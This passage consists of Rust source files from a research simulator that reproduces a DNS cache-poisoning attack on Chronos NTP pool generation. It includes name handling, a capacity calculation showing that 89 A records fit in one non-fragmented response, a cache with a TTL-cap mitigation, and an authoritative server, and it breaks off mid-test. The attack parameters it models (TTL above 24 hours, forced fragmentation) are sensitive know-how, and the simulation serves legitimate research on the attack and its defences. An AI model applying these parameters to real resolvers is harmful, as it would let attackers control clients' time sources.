//! Domain names: validation, ordering, zone containment.
//!
//! Names are stored as lowercase label sequences (DNS is case-insensitive
//! for matching). Validation follows RFC 1035 limits: labels of 1–63 bytes,
//! total encoded length at most 255.
//!
//! # Examples
//!
//! ```
//! use dnslab::name::Name;
//!
//! let pool: Name = "pool.ntp.org".parse()?;
//! let zone: Name = "ntp.org".parse()?;
//! assert!(pool.is_subdomain_of(&zone));
//! assert_eq!(pool.encoded_len(), 14);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use core::fmt;
use serde::{Deserialize, Serialize};
use std::error::Error;
use std::str::FromStr;

/// Maximum bytes in one label.
pub const MAX_LABEL_LEN: usize = 63;

/// Maximum encoded name length (length bytes + labels + root byte).
pub const MAX_NAME_LEN: usize = 255;

/// A validated, case-normalised domain name.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Name {
    labels: Vec<String>,
}

/// Errors from [`Name`] construction.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NameError {
    /// A label was empty (`..` inside the name).
    EmptyLabel,
    /// A label exceeded 63 bytes.
    LabelTooLong {
        /// The offending label.
        label: String,
    },
    /// The whole name exceeded 255 encoded bytes.
    NameTooLong,
    /// A label contained a byte outside `[a-z0-9-_]` (after lowercasing).
    BadCharacter {
        /// The offending character.
        ch: char,
    },
}

impl fmt::Display for NameError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NameError::EmptyLabel => write!(f, "empty label in domain name"),
            NameError::LabelTooLong { label } => {
                write!(f, "label '{label}' exceeds {MAX_LABEL_LEN} bytes")
            }
            NameError::NameTooLong => write!(f, "encoded name exceeds {MAX_NAME_LEN} bytes"),
            NameError::BadCharacter { ch } => {
                write!(f, "invalid character '{ch}' in domain name")
            }
        }
    }
}

impl Error for NameError {}

impl Name {
    /// The DNS root (empty label sequence).
    pub fn root() -> Self {
        Name { labels: Vec::new() }
    }

    /// Builds a name from labels, validating each.
    ///
    /// # Errors
    ///
    /// Returns a [`NameError`] if any label is invalid or the total length
    /// exceeds the RFC 1035 bound.
    pub fn from_labels<I, S>(labels: I) -> Result<Self, NameError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut out = Vec::new();
        for l in labels {
            let label = l.as_ref().to_ascii_lowercase();
            validate_label(&label)?;
            out.push(label);
        }
        let name = Name { labels: out };
        if name.encoded_len() > MAX_NAME_LEN {
            return Err(NameError::NameTooLong);
        }
        Ok(name)
    }

    /// The labels, most specific first.
    pub fn labels(&self) -> &[String] {
        &self.labels
    }

    /// Number of labels (0 for the root).
    pub fn label_count(&self) -> usize {
        self.labels.len()
    }

    /// `true` for the DNS root.
    pub fn is_root(&self) -> bool {
        self.labels.is_empty()
    }

    /// Length of the uncompressed wire encoding: one length byte per label,
    /// the label bytes, and the terminating root byte.
    pub fn encoded_len(&self) -> usize {
        self.labels.iter().map(|l| l.len() + 1).sum::<usize>() + 1
    }

    /// `true` if `self` equals `zone` or is beneath it.
    ///
    /// Every name is a subdomain of the root.
    pub fn is_subdomain_of(&self, zone: &Name) -> bool {
        if zone.labels.len() > self.labels.len() {
            return false;
        }
        let offset = self.labels.len() - zone.labels.len();
        self.labels[offset..] == zone.labels[..]
    }

    /// The parent name (one label removed); `None` for the root.
    pub fn parent(&self) -> Option<Name> {
        if self.labels.is_empty() {
            None
        } else {
            Some(Name {
                labels: self.labels[1..].to_vec(),
            })
        }
    }

    /// Prepends a label, e.g. `"ns1"` to `pool.ntp.org`.
    ///
    /// # Errors
    ///
    /// Returns a [`NameError`] if the label is invalid or the result too
    /// long.
    pub fn prepend(&self, label: &str) -> Result<Name, NameError> {
        let mut labels = vec![label.to_ascii_lowercase()];
        labels.extend(self.labels.iter().cloned());
        Name::from_labels(labels)
    }
}

fn validate_label(label: &str) -> Result<(), NameError> {
    if label.is_empty() {
        return Err(NameError::EmptyLabel);
    }
    if label.len() > MAX_LABEL_LEN {
        return Err(NameError::LabelTooLong {
            label: label.to_string(),
        });
    }
    for ch in label.chars() {
        let ok = ch.is_ascii_lowercase() || ch.is_ascii_digit() || ch == '-' || ch == '_';
        if !ok {
            return Err(NameError::BadCharacter { ch });
        }
    }
    Ok(())
}

impl FromStr for Name {
    type Err = NameError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let trimmed = s.strip_suffix('.').unwrap_or(s);
        if trimmed.is_empty() {
            return Ok(Name::root());
        }
        Name::from_labels(trimmed.split('.'))
    }
}

impl fmt::Display for Name {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.labels.is_empty() {
            write!(f, ".")
        } else {
            write!(f, "{}", self.labels.join("."))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_and_display() {
        let n: Name = "Pool.NTP.org".parse().unwrap();
        assert_eq!(n.to_string(), "pool.ntp.org");
        assert_eq!(n.label_count(), 3);
        assert_eq!(n.labels()[0], "pool");
    }

    #[test]
    fn trailing_dot_is_accepted() {
        let a: Name = "ntp.org.".parse().unwrap();
        let b: Name = "ntp.org".parse().unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn root_parses_and_displays() {
        let r: Name = ".".parse().unwrap_or_else(|_| Name::root());
        // "." splits into one empty label, so parse via empty string:
        let r2: Name = "".parse().unwrap();
        assert!(r2.is_root());
        assert_eq!(r2.to_string(), ".");
        let _ = r;
    }

    #[test]
    fn encoded_len_matches_rfc1035() {
        let n: Name = "pool.ntp.org".parse().unwrap();
        // 1+4 + 1+3 + 1+3 + 1 = 14
        assert_eq!(n.encoded_len(), 14);
        assert_eq!(Name::root().encoded_len(), 1);
    }

    #[test]
    fn subdomain_relations() {
        let pool: Name = "pool.ntp.org".parse().unwrap();
        let zone: Name = "ntp.org".parse().unwrap();
        let org: Name = "org".parse().unwrap();
        assert!(pool.is_subdomain_of(&zone));
        assert!(pool.is_subdomain_of(&org));
        assert!(pool.is_subdomain_of(&pool));
        assert!(pool.is_subdomain_of(&Name::root()));
        assert!(!zone.is_subdomain_of(&pool));
        let evil: Name = "ntp.org.evil.example".parse().unwrap();
        assert!(!evil.is_subdomain_of(&zone), "suffix must align on labels");
    }

    #[test]
    fn parent_chain() {
        let n: Name = "a.b.c".parse().unwrap();
        let p = n.parent().unwrap();
        assert_eq!(p.to_string(), "b.c");
        assert_eq!(p.parent().unwrap().to_string(), "c");
        assert!(p.parent().unwrap().parent().unwrap().is_root());
        assert!(Name::root().parent().is_none());
    }

    #[test]
    fn prepend_builds_child() {
        let zone: Name = "ntp.org".parse().unwrap();
        let ns = zone.prepend("ns1").unwrap();
        assert_eq!(ns.to_string(), "ns1.ntp.org");
        assert!(ns.is_subdomain_of(&zone));
    }

    #[test]
    fn rejects_bad_labels() {
        assert_eq!("a..b".parse::<Name>(), Err(NameError::EmptyLabel));
        assert!(matches!(
            "bad space.example".parse::<Name>(),
            Err(NameError::BadCharacter { ch: ' ' })
        ));
        let long = "x".repeat(64);
        assert!(matches!(
            format!("{long}.example").parse::<Name>(),
            Err(NameError::LabelTooLong { .. })
        ));
    }

    #[test]
    fn rejects_overlong_name() {
        let label = "x".repeat(63);
        let parts = vec![label.as_str(); 5]; // 5*64 + 1 = 321 > 255
        assert_eq!(Name::from_labels(parts), Err(NameError::NameTooLong));
    }

    #[test]
    fn hyphen_underscore_digits_allowed() {
        assert!("_spf.mail-1.example2".parse::<Name>().is_ok());
    }

    #[test]
    fn ordering_is_stable() {
        let mut v: Vec<Name> = ["b.org", "a.org", "c.org"]
            .iter()
            .map(|s| s.parse().unwrap())
            .collect();
        v.sort();
        assert_eq!(v[0].to_string(), "a.org");
    }
}
