//! Response-capacity computations (paper §IV, claim C2).
//!
//! The attack hinges on how many A records an attacker can deliver in a
//! *single, non-fragmented* DNS response. These helpers measure that against
//! the real encoder rather than asserting folklore numbers. For the paper's
//! setting — `pool.ntp.org`, Ethernet MTU 1500, an EDNS OPT record present —
//! the answer is **89**.
//!
//! # Examples
//!
//! ```
//! use dnslab::capacity::max_a_records;
//! use dnslab::name::Name;
//!
//! let pool: Name = "pool.ntp.org".parse()?;
//! assert_eq!(max_a_records(&pool, 1500, true), 89);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use crate::name::Name;
use crate::wire::{Message, Question, Record, DNS_HEADER_LEN};
use std::net::Ipv4Addr;

/// IP (20) + UDP (8) header overhead subtracted from the MTU.
pub const IP_UDP_OVERHEAD: usize = 28;

/// Size in bytes of one compressed A record (name pointer + fixed fields).
pub const COMPRESSED_A_RECORD_LEN: usize = 16;

/// Size in bytes of the EDNS0 OPT record.
pub const OPT_RECORD_LEN: usize = 11;

/// Builds a response to an A query for `qname` carrying `count` distinct
/// answer addresses (and an OPT record when `edns` is set).
pub fn response_with_answers(qname: &Name, count: usize, ttl: u32, edns: bool) -> Message {
    let query = Message::query(0, Question::a(qname.clone()));
    let mut msg = Message::response_to(&query);
    msg.flags.authoritative = true;
    for i in 0..count {
        let addr = Ipv4Addr::new(198, 18, (i / 256) as u8, (i % 256) as u8);
        msg.answers.push(Record::a(qname.clone(), addr, ttl));
    }
    if edns {
        msg = msg.with_edns(4096);
    }
    msg
}

/// Wire size of a response with `count` answers for `qname`.
pub fn response_size(qname: &Name, count: usize, edns: bool) -> usize {
    response_with_answers(qname, count, 300, edns).encoded_len()
}

/// The DNS payload budget for a non-fragmented response at `mtu`.
pub fn dns_budget(mtu: u16) -> usize {
    (mtu as usize).saturating_sub(IP_UDP_OVERHEAD)
}

/// Maximum number of A records for `qname` that fit in one non-fragmented
/// response at `mtu` (measured against the actual encoder).
pub fn max_a_records(qname: &Name, mtu: u16, edns: bool) -> usize {
    let budget = dns_budget(mtu);
    let fixed = DNS_HEADER_LEN + qname.encoded_len() + 4 + if edns { OPT_RECORD_LEN } else { 0 };
    if budget < fixed {
        return 0;
    }
    // Closed form first, then verify against the encoder (compression makes
    // every answer record exactly COMPRESSED_A_RECORD_LEN bytes).
    let estimate = (budget - fixed) / COMPRESSED_A_RECORD_LEN;
    let mut k = estimate;
    while response_size(qname, k + 1, edns) <= budget {
        k += 1;
    }
    while k > 0 && response_size(qname, k, edns) > budget {
        k -= 1;
    }
    k
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::Message as Msg;

    fn pool() -> Name {
        "pool.ntp.org".parse().unwrap()
    }

    /// Paper claim C2: 89 A records fit in one non-fragmented response.
    #[test]
    fn eighty_nine_records_at_ethernet_mtu_with_edns() {
        assert_eq!(max_a_records(&pool(), 1500, true), 89);
    }

    #[test]
    fn ninety_without_edns() {
        // Dropping the 11-byte OPT record buys nothing... except it does:
        // (1472 - 30) / 16 = 90.1 → 90.
        assert_eq!(max_a_records(&pool(), 1500, false), 90);
    }

    #[test]
    fn capacity_shrinks_with_mtu() {
        let at_1500 = max_a_records(&pool(), 1500, true);
        let at_1280 = max_a_records(&pool(), 1280, true);
        let at_576 = max_a_records(&pool(), 576, true);
        let at_548 = max_a_records(&pool(), 548, true);
        assert!(at_1500 > at_1280 && at_1280 > at_576 && at_576 >= at_548);
        assert_eq!(at_1280, (1280 - 28 - 30 - 11) / 16);
        assert_eq!(at_548, (548 - 28 - 30 - 11) / 16);
    }

    #[test]
    fn reported_maximum_actually_fits_and_next_does_not() {
        for mtu in [548u16, 576, 1280, 1500] {
            let k = max_a_records(&pool(), mtu, true);
            assert!(response_size(&pool(), k, true) <= dns_budget(mtu));
            assert!(response_size(&pool(), k + 1, true) > dns_budget(mtu));
        }
    }

    #[test]
    fn maximum_response_decodes_cleanly() {
        let msg = response_with_answers(&pool(), 89, 86_401, true);
        let wire = msg.encode();
        assert!(wire.len() <= dns_budget(1500));
        let back = Msg::decode(&wire).unwrap();
        assert_eq!(back.answer_addrs().len(), 89);
        assert!(back.answers.iter().all(|r| r.ttl == 86_401));
    }

    #[test]
    fn tiny_mtu_capacity_is_zero_or_small() {
        assert_eq!(max_a_records(&pool(), 68, true), 0);
        // budget 72 - fixed 30 = 42 bytes -> two 16-byte records.
        assert_eq!(max_a_records(&pool(), 100, false), 2);
    }

    #[test]
    fn longer_qnames_reduce_capacity() {
        let long: Name = "a-rather-long-label.pool.ntp.org".parse().unwrap();
        assert!(max_a_records(&long, 1500, true) <= max_a_records(&pool(), 1500, true));
    }
}
