//! # dnslab — the DNS substrate
//!
//! Everything the Chronos pool-generation attack touches on the DNS side,
//! rebuilt on [`netsim`]:
//!
//! * [`wire`] — genuine RFC 1035 message encoding with name compression and
//!   EDNS0, so response sizes (and the paper's "89 A records fit in one
//!   non-fragmented response") are *measured*, not asserted;
//! * [`zone`] / [`server`] — authoritative servers, including the
//!   `pool.ntp.org` rotation (4 addresses per response, TTL 150 s);
//! * [`cache`] / [`resolver`] — a caching recursive resolver with TXID and
//!   source-port randomization, bailiwick filtering, glue learning, and the
//!   TTL-cap mitigation from the paper's §V;
//! * [`client`] — the stub resolver embedded in client nodes;
//! * [`capacity`] — response-capacity computations (claim C2).
//!
//! # Example: resolve through a full server/resolver chain
//!
//! See `examples/quickstart.rs` in the workspace root for an end-to-end
//! scenario; the unit tests in [`resolver`] show the minimal wiring.
//!
//! *(Workspace map: see `ARCHITECTURE.md` at the repo root — crate-by-crate
//! architecture, the data-flow diagram, and the determinism contract.)*

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod cache;
pub mod capacity;
pub mod client;
pub mod name;
pub mod resolver;
pub mod server;
pub mod wire;
pub mod zone;

/// Convenient glob-import of the commonly used types.
pub mod prelude {
    pub use crate::cache::{CacheKey, DnsCache};
    pub use crate::client::{StubResolver, StubResponse};
    pub use crate::name::Name;
    pub use crate::resolver::{RecursiveResolver, ResolverConfig, SourcePortPolicy, Upstream};
    pub use crate::server::{AuthServer, AuthServerConfig, DNS_PORT};
    pub use crate::wire::{
        FieldSpan, Message, Question, RData, Rcode, Record, RecordSpan, RecordType, Section,
    };
    pub use crate::zone::{pool_ntp_zone, Rotation, Zone};
}
