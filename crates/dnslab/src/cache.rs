//! The resolver cache: TTL-honouring, capacity-bounded.
//!
//! The cache is exactly what the paper's attack fills: one poisoned entry
//! with a TTL above 24 hours makes every later `pool.ntp.org` query a cache
//! hit, freezing the Chronos pool with the attacker's 89 servers in it. The
//! optional [`DnsCache::ttl_cap`] implements the paper's §V mitigation of
//! distrusting extreme TTLs.

use crate::name::Name;
use crate::wire::{Record, RecordType};
use netsim::time::{SimDuration, SimTime};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// Cache lookup key.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct CacheKey {
    /// Record owner name.
    pub name: Name,
    /// Record type.
    pub rtype: RecordType,
}

impl CacheKey {
    /// Shorthand for an A-record key.
    pub fn a(name: Name) -> Self {
        CacheKey {
            name,
            rtype: RecordType::A,
        }
    }
}

#[derive(Debug, Clone)]
struct CachedRecord {
    record: Record,
    expires: SimTime,
}

#[derive(Debug, Clone)]
struct Entry {
    records: Vec<CachedRecord>,
}

impl Entry {
    fn earliest_expiry(&self) -> SimTime {
        self.records
            .iter()
            .map(|r| r.expires)
            .min()
            .unwrap_or(SimTime::ZERO)
    }
}

/// Counters describing cache behaviour.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CacheStats {
    /// Lookups that returned records.
    pub hits: u64,
    /// Lookups that found nothing usable.
    pub misses: u64,
    /// Record sets inserted.
    pub inserts: u64,
    /// Entries evicted for capacity.
    pub evictions: u64,
    /// Records whose TTL was clamped by the cap.
    pub ttl_clamped: u64,
}

/// A TTL-honouring DNS cache.
#[derive(Debug)]
pub struct DnsCache {
    entries: HashMap<CacheKey, Entry>,
    capacity: usize,
    ttl_cap: Option<u32>,
    stats: CacheStats,
}

impl Default for DnsCache {
    fn default() -> Self {
        DnsCache::new(10_000)
    }
}

impl DnsCache {
    /// Creates a cache holding at most `capacity` keys.
    pub fn new(capacity: usize) -> Self {
        DnsCache {
            entries: HashMap::new(),
            capacity,
            ttl_cap: None,
            stats: CacheStats::default(),
        }
    }

    /// Sets a TTL cap (the §V mitigation): stored TTLs are clamped to this
    /// many seconds.
    pub fn set_ttl_cap(&mut self, cap: Option<u32>) {
        self.ttl_cap = cap;
    }

    /// The configured TTL cap.
    pub fn ttl_cap(&self) -> Option<u32> {
        self.ttl_cap
    }

    /// Number of cached keys.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// `true` when nothing is cached.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Activity counters.
    pub fn stats(&self) -> CacheStats {
        self.stats
    }

    /// Inserts (replaces) the record set for `key`.
    ///
    /// TTLs are clamped by the cap when configured. Records with TTL 0 are
    /// not stored.
    pub fn insert(&mut self, now: SimTime, key: CacheKey, records: &[Record]) {
        let mut cached = Vec::with_capacity(records.len());
        for r in records {
            let mut ttl = r.ttl;
            if let Some(cap) = self.ttl_cap {
                if ttl > cap {
                    ttl = cap;
                    self.stats.ttl_clamped += 1;
                }
            }
            if ttl == 0 {
                continue;
            }
            cached.push(CachedRecord {
                record: r.clone(),
                expires: now + SimDuration::from_secs(u64::from(ttl)),
            });
        }
        if cached.is_empty() {
            return;
        }
        self.stats.inserts += 1;
        if !self.entries.contains_key(&key) && self.entries.len() >= self.capacity {
            self.evict_soonest_expiring();
        }
        self.entries.insert(key, Entry { records: cached });
    }

    /// Looks up `key`, returning unexpired records with their remaining TTL.
    pub fn get(&mut self, now: SimTime, key: &CacheKey) -> Option<Vec<Record>> {
        let hit = match self.entries.get_mut(key) {
            None => None,
            Some(entry) => {
                entry.records.retain(|r| r.expires > now);
                if entry.records.is_empty() {
                    None
                } else {
                    Some(
                        entry
                            .records
                            .iter()
                            .map(|c| {
                                let mut r = c.record.clone();
                                r.ttl = c.expires.duration_since(now).as_secs() as u32;
                                r
                            })
                            .collect::<Vec<_>>(),
                    )
                }
            }
        };
        match hit {
            Some(records) => {
                self.stats.hits += 1;
                Some(records)
            }
            None => {
                self.entries.remove(key);
                self.stats.misses += 1;
                None
            }
        }
    }

    /// Removes expired records; drops empty entries.
    pub fn purge_expired(&mut self, now: SimTime) {
        self.entries.retain(|_, entry| {
            entry.records.retain(|r| r.expires > now);
            !entry.records.is_empty()
        });
    }

    /// Removes one key outright (cache flush of a name).
    pub fn remove(&mut self, key: &CacheKey) -> bool {
        self.entries.remove(key).is_some()
    }

    /// Clears everything.
    pub fn clear(&mut self) {
        self.entries.clear();
    }

    /// Clears all entries and zeroes the counters, keeping the capacity and
    /// TTL-cap configuration (world-reuse support).
    pub fn reset(&mut self) {
        self.entries.clear();
        self.stats = CacheStats::default();
    }

    fn evict_soonest_expiring(&mut self) {
        if let Some(key) = self
            .entries
            .iter()
            .min_by_key(|(_, e)| e.earliest_expiry())
            .map(|(k, _)| k.clone())
        {
            self.entries.remove(&key);
            self.stats.evictions += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn key() -> CacheKey {
        CacheKey::a("pool.ntp.org".parse().unwrap())
    }

    fn recs(ttl: u32, n: usize) -> Vec<Record> {
        (0..n)
            .map(|i| {
                Record::a(
                    "pool.ntp.org".parse().unwrap(),
                    Ipv4Addr::new(10, 0, 0, i as u8 + 1),
                    ttl,
                )
            })
            .collect()
    }

    fn t(secs: u64) -> SimTime {
        SimTime::from_secs(secs)
    }

    #[test]
    fn hit_before_expiry_miss_after() {
        let mut cache = DnsCache::new(16);
        cache.insert(t(0), key(), &recs(150, 4));
        let hit = cache.get(t(100), &key()).expect("still fresh");
        assert_eq!(hit.len(), 4);
        assert_eq!(hit[0].ttl, 50, "remaining ttl is decremented");
        assert!(cache.get(t(150), &key()).is_none(), "expired at ttl");
        assert_eq!(cache.stats().hits, 1);
        assert_eq!(cache.stats().misses, 1);
    }

    #[test]
    fn high_ttl_entry_outlives_24_hours() {
        // The attack's cache behaviour: TTL 86401 spans the whole generation.
        let mut cache = DnsCache::new(16);
        cache.insert(t(0), key(), &recs(86_401, 89));
        let after_23h = cache.get(t(23 * 3600), &key()).unwrap();
        assert_eq!(after_23h.len(), 89);
        assert!(cache.get(t(86_401), &key()).is_none());
    }

    #[test]
    fn ttl_cap_clamps_attacker_ttl() {
        let mut cache = DnsCache::new(16);
        cache.set_ttl_cap(Some(3600));
        cache.insert(t(0), key(), &recs(86_401, 89));
        assert_eq!(cache.stats().ttl_clamped, 89);
        assert!(cache.get(t(3600), &key()).is_none(), "capped at one hour");
        assert!(DnsCache::new(1).ttl_cap().is_none());
    }

    #[test]
    fn insert_replaces_previous_set() {
        let mut cache = DnsCache::new(16);
        cache.insert(t(0), key(), &recs(150, 4));
        cache.insert(t(10), key(), &recs(150, 2));
        assert_eq!(cache.get(t(20), &key()).unwrap().len(), 2);
    }

    #[test]
    fn zero_ttl_records_are_not_stored() {
        let mut cache = DnsCache::new(16);
        cache.insert(t(0), key(), &recs(0, 4));
        assert!(cache.is_empty());
        assert!(cache.get(t(0), &key()).is_none());
    }

    #[test]
    fn capacity_evicts_soonest_expiring() {
        let mut cache = DnsCache::new(2);
        let k1 = CacheKey::a("a.example".parse().unwrap());
        let k2 = CacheKey::a("b.example".parse().unwrap());
        let k3 = CacheKey::a("c.example".parse().unwrap());
        cache.insert(t(0), k1.clone(), &recs(100, 1));
        cache.insert(t(0), k2.clone(), &recs(9999, 1));
        cache.insert(t(0), k3.clone(), &recs(500, 1));
        assert_eq!(cache.len(), 2);
        assert_eq!(cache.stats().evictions, 1);
        assert!(cache.get(t(1), &k1).is_none(), "soonest-expiring evicted");
        assert!(cache.get(t(1), &k2).is_some());
        assert!(cache.get(t(1), &k3).is_some());
    }

    #[test]
    fn purge_expired_drops_stale_entries() {
        let mut cache = DnsCache::new(16);
        cache.insert(t(0), key(), &recs(100, 4));
        cache.purge_expired(t(50));
        assert_eq!(cache.len(), 1);
        cache.purge_expired(t(101));
        assert!(cache.is_empty());
    }

    #[test]
    fn remove_and_clear() {
        let mut cache = DnsCache::new(16);
        cache.insert(t(0), key(), &recs(100, 1));
        assert!(cache.remove(&key()));
        assert!(!cache.remove(&key()));
        cache.insert(t(0), key(), &recs(100, 1));
        cache.clear();
        assert!(cache.is_empty());
    }

    #[test]
    fn mixed_expiry_within_one_entry() {
        let mut cache = DnsCache::new(16);
        let mut records = recs(100, 2);
        records[1].ttl = 10;
        cache.insert(t(0), key(), &records);
        assert_eq!(cache.get(t(5), &key()).unwrap().len(), 2);
        assert_eq!(cache.get(t(50), &key()).unwrap().len(), 1);
    }
}
