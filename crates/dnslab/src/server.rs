//! Authoritative DNS server node.
//!
//! Serves one or more [`Zone`]s over UDP port 53 on a [`netsim`] host.
//! Responses honour the client's EDNS0 buffer size (or the classic 512-byte
//! limit), truncate with TC when they cannot fit, and — crucially for the
//! fragmentation attacks — are sent through the host's [`IpStack`], so a
//! poisoned PMTU estimate makes the server emit *fragmented* responses.

use crate::wire::{Message, Question, Rcode, RcodeField, CLASSIC_UDP_LIMIT};
use crate::zone::Zone;
use netsim::ip::Ipv4Packet;
use netsim::node::{Context, Node};
use netsim::stack::{IpStack, StackConfig, StackEvent};
use serde::{Deserialize, Serialize};
use std::any::Any;
use std::net::Ipv4Addr;

/// The well-known DNS port.
pub const DNS_PORT: u16 = 53;

/// Configuration for an [`AuthServer`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuthServerConfig {
    /// Whether the server honours EDNS0 buffer sizes from clients.
    pub honor_edns: bool,
    /// Buffer size advertised back in responses when EDNS is used.
    pub edns_size: u16,
}

impl Default for AuthServerConfig {
    fn default() -> Self {
        AuthServerConfig {
            honor_edns: true,
            edns_size: 4096,
        }
    }
}

/// Counters describing server activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuthServerStats {
    /// Queries received.
    pub queries: u64,
    /// Responses sent.
    pub responses: u64,
    /// Responses sent with TC after truncation.
    pub truncated: u64,
    /// NXDOMAIN responses.
    pub nxdomain: u64,
    /// Queries that matched no zone (REFUSED).
    pub refused: u64,
}

/// An authoritative nameserver attached to the simulated network.
#[derive(Debug)]
pub struct AuthServer {
    stack: IpStack,
    zones: Vec<Zone>,
    config: AuthServerConfig,
    stats: AuthServerStats,
}

impl AuthServer {
    /// Creates a server at `addr` serving `zones`.
    pub fn new(addr: Ipv4Addr, zones: Vec<Zone>) -> Self {
        AuthServer::with_stack_config(addr, zones, StackConfig::default())
    }

    /// Creates a server answering on several addresses (e.g. one node
    /// standing in for a zone's whole NS set).
    ///
    /// # Panics
    ///
    /// Panics if `addrs` is empty.
    pub fn with_addrs(addrs: Vec<Ipv4Addr>, zones: Vec<Zone>) -> Self {
        AuthServer::with_addrs_and_stack(addrs, zones, StackConfig::default())
    }

    /// Multi-address constructor with an explicit stack configuration
    /// (IP-ID policy, PMTU acceptance — the attack-surface knobs).
    ///
    /// # Panics
    ///
    /// Panics if `addrs` is empty.
    pub fn with_addrs_and_stack(
        addrs: Vec<Ipv4Addr>,
        zones: Vec<Zone>,
        stack: StackConfig,
    ) -> Self {
        AuthServer {
            stack: IpStack::with_config(addrs, stack),
            zones,
            config: AuthServerConfig::default(),
            stats: AuthServerStats::default(),
        }
    }

    /// Creates a server with an explicit stack configuration (IP-ID policy,
    /// PMTU acceptance — the attack-surface knobs).
    pub fn with_stack_config(addr: Ipv4Addr, zones: Vec<Zone>, stack: StackConfig) -> Self {
        AuthServer {
            stack: IpStack::with_config(vec![addr], stack),
            zones,
            config: AuthServerConfig::default(),
            stats: AuthServerStats::default(),
        }
    }

    /// Overrides the server configuration. Returns `self` for chaining.
    pub fn with_config(mut self, config: AuthServerConfig) -> Self {
        self.config = config;
        self
    }

    /// The server's address.
    pub fn addr(&self) -> Ipv4Addr {
        self.stack.addr()
    }

    /// Activity counters.
    pub fn stats(&self) -> AuthServerStats {
        self.stats
    }

    /// The host IP stack (PMTU estimates, reassembly stats).
    pub fn stack(&self) -> &IpStack {
        &self.stack
    }

    /// The served zones.
    pub fn zones(&self) -> &[Zone] {
        &self.zones
    }

    /// Mutable access to zones (rotation state advances as it answers).
    pub fn zones_mut(&mut self) -> &mut [Zone] {
        &mut self.zones
    }

    fn deepest_zone_for(&mut self, q: &Question) -> Option<&mut Zone> {
        self.zones
            .iter_mut()
            .filter(|z| z.contains(&q.name))
            .max_by_key(|z| z.origin().label_count())
    }

    fn answer_query(&mut self, query: &Message) -> Option<Message> {
        let q = query.question.first()?.clone();
        self.stats.queries += 1;
        let client_edns = query.edns_udp_size();
        let mut response = Message::response_to(query);
        response.flags.authoritative = true;

        match self.deepest_zone_for(&q) {
            None => {
                self.stats.refused += 1;
                response.flags.rcode = RcodeField(Rcode::Refused);
            }
            Some(zone) => {
                let ans = zone.answer(&q);
                if ans.nxdomain {
                    self.stats.nxdomain += 1;
                    response.flags.rcode = RcodeField(Rcode::NxDomain);
                }
                response.answers = ans.answers;
                response.authorities = ans.authorities;
                response.additionals = ans.additionals;
            }
        }
        if self.config.honor_edns && client_edns.is_some() {
            response = response.with_edns(self.config.edns_size);
        }
        let limit = if self.config.honor_edns {
            client_edns.map(usize::from).unwrap_or(CLASSIC_UDP_LIMIT)
        } else {
            CLASSIC_UDP_LIMIT
        };
        self.fit_to(&mut response, limit);
        Some(response)
    }

    /// Shrinks `response` to `limit` bytes: drops glue, then authority, then
    /// truncates answers and sets TC.
    fn fit_to(&mut self, response: &mut Message, limit: usize) {
        if response.encoded_len() <= limit {
            return;
        }
        // Keep a trailing OPT record if present.
        let opt = response
            .additionals
            .iter()
            .find(|r| matches!(r.rdata, crate::wire::RData::Opt { .. }))
            .cloned();
        response.additionals.clear();
        if let Some(opt) = opt {
            response.additionals.push(opt);
        }
        if response.encoded_len() <= limit {
            return;
        }
        response.authorities.clear();
        if response.encoded_len() <= limit {
            return;
        }
        while !response.answers.is_empty() && response.encoded_len() > limit {
            response.answers.pop();
        }
        response.flags.truncated = true;
        self.stats.truncated += 1;
    }
}

impl Node for AuthServer {
    fn reset(&mut self) {
        self.stack.reset();
        self.stats = AuthServerStats::default();
        for zone in &mut self.zones {
            zone.reset();
        }
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        let Some(StackEvent::Udp { src, dst, datagram }) = self.stack.handle(ctx, pkt) else {
            return;
        };
        if datagram.dst_port != DNS_PORT {
            return;
        }
        let Ok(query) = Message::decode(&datagram.payload) else {
            return;
        };
        if query.flags.response {
            return;
        }
        if let Some(response) = self.answer_query(&query) {
            self.stats.responses += 1;
            self.stack.send_udp(
                ctx,
                dst,
                DNS_PORT,
                src,
                datagram.src_port,
                response.encode(),
            );
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::name::Name;
    use crate::zone::pool_ntp_zone;
    use bytes::Bytes;
    use netsim::prelude::*;
    use netsim::time::SimDuration;

    /// Sends one DNS query at start and stores the decoded response.
    struct Probe {
        stack: IpStack,
        server: Ipv4Addr,
        query: Message,
        response: Option<Message>,
    }

    impl Probe {
        fn new(addr: Ipv4Addr, server: Ipv4Addr, query: Message) -> Self {
            Probe {
                stack: IpStack::new(addr),
                server,
                query,
                response: None,
            }
        }
    }

    impl Node for Probe {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            let me = self.stack.addr();
            self.stack
                .send_udp(ctx, me, 5301, self.server, DNS_PORT, self.query.encode());
        }
        fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
